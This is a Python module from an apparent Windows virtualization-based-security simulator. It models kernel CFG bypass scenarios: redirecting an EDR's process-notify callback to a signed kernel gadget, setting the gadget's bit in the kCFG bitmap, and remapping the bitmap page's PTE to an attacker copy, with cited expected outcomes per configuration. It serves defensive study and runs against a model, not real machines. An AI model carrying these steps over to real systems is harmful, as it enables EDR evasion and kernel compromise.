"""D9: kernel CFG — redirect a callback pointer to signed code that is not a valid call target.

A K0 attacker with a kernel read/write primitive cannot run code of its own where HVCI runs
(A3, D8), so it points a pointer NT calls through at code that is already there: signed,
validated, kernel-executable — a "gadget".  Here the pointer is the EDR's process-notify
routine (the Function of its EX_CALLBACK_ROUTINE_BLOCK in pool, found through
PspCreateProcessNotifyRoutine as D3 finds it) and the gadget ``nt!KiFlushCurrentTbWorker``
(``vbsim.nt.kcfg.GADGET``), an internal routine NT calls only directly: its address is never
taken, so it is in no GuardCFFunctionTable and not in the kCFG bitmap.  The next process
creation makes NT call it, at CPL0.

Goal, from the platform's execution record (``Trace.ran``, the gadget carries a breakpoint):
the gadget ran in VTL0 ring 0 — NT made the call.

D9-BITMAP first sets the gadget's bit in the bitmap (the obvious answer to a bitmap check, when
the bitmap is just kernel memory), then does the same.

Expected, from the public record (sources in ``expected_why``): kernel CFG checks the bitmap only
when it is fully enabled, which takes HVCI — "kCFG is only fully enabled when HVCI is enabled.
SLAT is used to protect the kCFG bitmap" (McGarr 2022) — and without a hypervisor "Kernel CFG
will be kept disabled" (Windows Internals 7th ed. part 1 ch. 7); what remains then is the test
that the target is a kernel address (McGarr 2020, 2021), which a kernel gadget passes.  So D9
succeeds on vbs-off, vbs and legacy-2019 and is stopped on vbs-hvci and hardened by
KERNEL_SECURITY_CHECK_FAILURE (0x139, parameter 1 = FAST_FAIL_GUARD_ICALL_CHECK_FAILURE).  The
record does not test VBS without HVCI by itself: McGarr 2020/2021 say kCFG "requires VBS", 2022
says fully only with HVCI, and Windows Internals part 2 makes kernel-CFG pages privileged pages
of HVCI; the model follows the HVCI reading (``vbsim.nt.kcfg``).  D9-BITMAP: where the bitmap
is in use the Secure Kernel made it read-only at PHASE3_INIT (WI7-P2), so the write is a SLAT
refusal and NT bugchecks (McGarr 2022 shows the access violation); where it is not in use there
is nothing to write and the redirect works as in D9.  Nowhere in the presets is a bitmap checked
but left writable.

D9-REMAP leaves the bitmap's frame alone and moves its virtual address instead: the K0 step
copies the bitmap page that holds the gadget's bit into a pool page of its own, sets the bit
there, and points NT's PTE for that bitmap page at the copy.  SLAT protects the bitmap's
guest-physical pages, not NT's translation of their VAs; "an attacker can remap a protected VA
(e.g. a KDP variable, shadow stack or CFG bitmap) to an attacker-controlled writable GPA", and
Hypervisor-enforced Paging Translation is what stops it (MS-HVPT 2025, vbs-internals §5.6, §6
A5).  So D9-REMAP succeeds on vbs-hvci (HVCI without HVPT: the check reads the attacker's copy)
and is stopped on hardened (HVPT: the bitmap's translation comes from HLAT tables VTL0 cannot
write, so the check reads the real bitmap and NT bugchecks 0x139 as in D9).  Where the bitmap
is not in use there is nothing to remap and the redirect works as in D9.  The record states the
class (MS-HVPT names the CFG bitmap); no public write-up runs this exact chain.
"""

from __future__ import annotations

from typing import Any

from vbsim.attacks.catalogue.a03_a14_memory_code_dma import remap_pte
from vbsim.attacks.catalogue.d01_d05_data_only import find_module
from vbsim.attacks.context import AttackContext
from vbsim.attacks.model import Capability, Outcome, Scenario
from vbsim.hw.cpu import Cpu
from vbsim.hw.x86 import PAGE_MASK, PAGE_SIZE
from vbsim.nt import drivers, kcfg, notify
from vbsim.nt.kernel import NtKernel
from vbsim.nt.layouts import (
    EX_CALLBACK_ROUTINE_BLOCK,
    EX_CALLBACK_SIZE,
    KCFG_CONTROL,
    PSP_MAX_CREATE_PROCESS_NOTIFY,
    fast_ref_object,
    kcfg_slot,
)

S, B = Outcome.SUCCEEDED, Outcome.BLOCKED
#: kCFG checks the bitmap only with HVCI; the kernel-address check alone passes a kernel gadget.
KCFG_BLOCKS = {"vbs-off": S, "vbs": S, "vbs-hvci": B, "hardened": B, "legacy-2019": S}

SOURCE = (
    "McGarr, 'The Current State of Exploit Development, Part 1' (2020), 'CVE-2021-21551 ... "
    "Kernel Exploit Writeup' (2021), 'No Code Execution? No Problem! ... Kernel CFG' (2022); "
    "Windows Internals 7th ed. pt 1 ch. 7 'Kernel CFG', pt 2 ch. 9 (PHASE3_INIT); MS Learn Bug "
    "Check 0x139; vbs-internals §1.1 row 13, §5.1"
)
WHY = (
    "kernel CFG tests the bitmap only when fully enabled, which takes HVCI ('kCFG is only fully "
    "enabled when HVCI is enabled. SLAT is used to protect the kCFG bitmap', McGarr 2022; "
    "without a hypervisor 'Kernel CFG will be kept disabled', WI7 pt 1 ch. 7); otherwise "
    "guard_dispatch_icall only checks the target is a kernel address (McGarr 2020, 2021), which "
    "a gadget in ntoskrnl is. With HVCI the gadget is in no GuardCFFunctionTable, so NT "
    "bugchecks KERNEL_SECURITY_CHECK_FAILURE with FAST_FAIL_GUARD_ICALL_CHECK_FAILURE (10; MS "
    "Learn Bug Check 0x139). VBS without HVCI is not tested in the record by itself (McGarr "
    "2020/21: kCFG 'requires VBS'); the model follows the HVCI reading"
)
WHY_BITMAP = (
    "where the bitmap is in use (HVCI) the Secure Kernel made it read-only in SLAT at "
    "PHASE3_INIT ('applies a read-only protection to the kernel CFG bitmaps', WI7 pt 2 ch. 9; "
    "McGarr 2022 shows the write failing), so the write is an EPT violation and NT bugchecks; "
    "where it is not in use (vbs-off, vbs, legacy-2019: kernel-address check only, McGarr "
    "2020-22) there is nothing to write and the redirect works as in D9. No preset checks a "
    "bitmap it leaves writable"
)


def _nt(ctx: AttackContext) -> NtKernel:
    nt = ctx.booted.nt
    assert nt is not None
    return nt


def _redirect(cpu: Cpu, modules: int, array: int, name: str, gadget: int) -> int:
    """K0: the EDR's EX_CALLBACK_ROUTINE_BLOCK.Function := the gadget; the old routine, or 0."""
    base, size = find_module(cpu, modules, name)
    for index in range(PSP_MAX_CREATE_PROCESS_NOTIFY):
        value: int = cpu.read_u64(array + index * EX_CALLBACK_SIZE)
        if not value:
            continue
        function = fast_ref_object(value) + EX_CALLBACK_ROUTINE_BLOCK.Function.offset
        routine: int = cpu.read_u64(function)
        if base and base <= routine < base + size:
            cpu.write_u64(function, gadget)
            return routine
    return 0


def _set_bit(cpu: Cpu, control: int, gadget: int) -> str:
    """K0: read nt!guard_icall_bitmap and set the gadget's bit (a read-modify-write)."""
    bitmap: int = cpu.read_u64(control + KCFG_CONTROL.GuardIcallBitmap.offset)
    slot = kcfg_slot(gadget)
    if not bitmap or slot is None:
        return "no-bitmap"
    at = bitmap + slot[0]
    cpu.write_u64(at, cpu.read_u64(at) | 1 << slot[1])
    return "set"


def _remap_bitmap(cpu: Cpu, control: int, gadget: int, copy_va: int, copy_gpa: int) -> list[Any]:
    """K0: the bitmap page holding the gadget's bit, copied into the attacker's pool page with
    the bit set; NT's PTE for that page then points at the copy (NT's tables are VTL0 memory),
    and the stale translation is flushed.  [what happened, the PTE it replaced]."""
    bitmap: int = cpu.read_u64(control + KCFG_CONTROL.GuardIcallBitmap.offset)
    slot = kcfg_slot(gadget)
    if not bitmap or slot is None:
        return ["no-bitmap", 0]
    at = bitmap + slot[0]
    page = at & ~PAGE_MASK
    cpu.write(copy_va, cpu.read(page, PAGE_SIZE))
    word = copy_va + (at & PAGE_MASK)
    cpu.write_u64(word, cpu.read_u64(word) | 1 << slot[1])
    old = remap_pte(cpu, page, copy_gpa)
    return ["no-pte", 0] if old is None else ["remapped", old]


def _steps(ctx: AttackContext, bitmap_first: bool, remap: bool = False) -> None:
    nt = _nt(ctx)
    # Host-side symbol lookup, as public symbols give a real attacker these addresses.
    gadget = nt.space.routines[kcfg.GADGET]
    array = nt.variable(notify.NOTIFY_ARRAY).va
    modules = drivers.module_list_head(nt)
    ctx.notes["gadget"] = gadget
    if bitmap_first:
        control = nt.variables[kcfg.GUARD_ICALL_BITMAP].va
        ctx.notes["bitmap"] = ctx.kernel(_set_bit, control, gadget)
        if ctx.bugchecked:
            return  # the write stopped the machine
    if remap:
        control = nt.variables[kcfg.GUARD_ICALL_BITMAP].va
        copy_va, copy_gpa = ctx.kernel_page()
        remapped = ctx.kernel(_remap_bitmap, control, gadget, copy_va, copy_gpa)
        if remapped is not None:
            ctx.notes["bitmap"], ctx.notes["old_pte"] = remapped
    ctx.notes["replaced"] = ctx.kernel(_redirect, modules, array, notify.EDR_DRIVER, gadget)
    # The goal counts the gadget's runs from here on: NT's dispatch during the process
    # creation, not a call the payload made itself (a third audit had it call the gadget).
    ctx.notes["dispatch_mark"] = ctx.trace.now
    with ctx.flow():  # the next process creation calls the EDR's routine pointer
        ctx.notes["victim"] = ctx.process(admin=False, name="d9.exe").pid


def d9_steps(ctx: AttackContext) -> None:
    _steps(ctx, bitmap_first=False)


def d9_bitmap_steps(ctx: AttackContext) -> None:
    _steps(ctx, bitmap_first=True)


def d9_remap_steps(ctx: AttackContext) -> None:
    _steps(ctx, bitmap_first=False, remap=True)


def d9_goal(ctx: AttackContext) -> bool:
    """The gadget ran in VTL0 ring 0 (the processor that fetched it recorded it) while NT
    created the next process, i.e. called through the EDR's notify routine pointer: runs before
    that (the payload's own) do not count, and the mark is the host step's, not the payload's."""
    mark = ctx.notes.get("dispatch_mark")
    if not isinstance(mark, int):
        return False
    return (0, 0) in ctx.trace.ran(kcfg.GADGET, since=mark)


D9 = Scenario(
    id="D9",
    title="kCFG: point the EDR's process-notify routine at signed code that is no call target",
    source=SOURCE,
    capability=Capability.K0,
    goal="an ntoskrnl routine whose address is never taken runs in VTL0 ring 0, called by NT "
    "through the EDR's notify routine pointer",
    expected=KCFG_BLOCKS,
    expected_why=WHY,
    steps=d9_steps,
    goal_met=d9_goal,
)

D9_BITMAP = Scenario(
    id="D9-BITMAP",
    title="kCFG: set the gadget's bit in the kCFG bitmap first, then redirect the callback",
    source=SOURCE,
    capability=Capability.K0,
    goal="as D9, after a kernel write marks the gadget valid in the kCFG bitmap",
    expected=KCFG_BLOCKS,
    expected_why=WHY_BITMAP,
    steps=d9_bitmap_steps,
    goal_met=d9_goal,
)

#: The remap bypasses the bitmap's SLAT protection; only HVPT's pinned translation stops it.
REMAP_OUTCOMES = {**KCFG_BLOCKS, "vbs-hvci": S}
WHY_REMAP = (
    "SLAT protects the kCFG bitmap's guest-physical pages, not NT's translation of their VAs: "
    "'an attacker can remap a protected VA (e.g. a KDP variable, shadow stack or CFG bitmap) to "
    "an attacker-controlled writable GPA', which Hypervisor-enforced Paging Translation stops "
    "(MS-HVPT 2025; vbs-internals §5.6, §6 A5). So with HVCI and no HVPT (vbs-hvci) the check "
    "reads the attacker's copy and passes the gadget; with HVPT (hardened) the bitmap's "
    "translation comes from HLAT tables VTL0 cannot write, the check reads the real bitmap, and "
    "NT bugchecks 0x139 as in D9. Without the bitmap in use (vbs-off, vbs, legacy-2019) there "
    "is nothing to remap and the redirect works as in D9. The record names the class; no public "
    "write-up runs this exact chain"
)

D9_REMAP = Scenario(
    id="D9-REMAP",
    title="kCFG: remap the bitmap page's VA to an attacker copy with the gadget's bit set",
    source=SOURCE + "; MS-HVPT 2025 (Windows OS Platform Blog, 'Understanding HVPT')",
    capability=Capability.K0,
    goal="as D9, after NT's PTE for the kCFG bitmap page is pointed at the attacker's copy",
    expected=REMAP_OUTCOMES,
    expected_why=WHY_REMAP,
    steps=d9_remap_steps,
    goal_met=d9_goal,
)

SCENARIOS = [D9, D9_BITMAP, D9_REMAP]
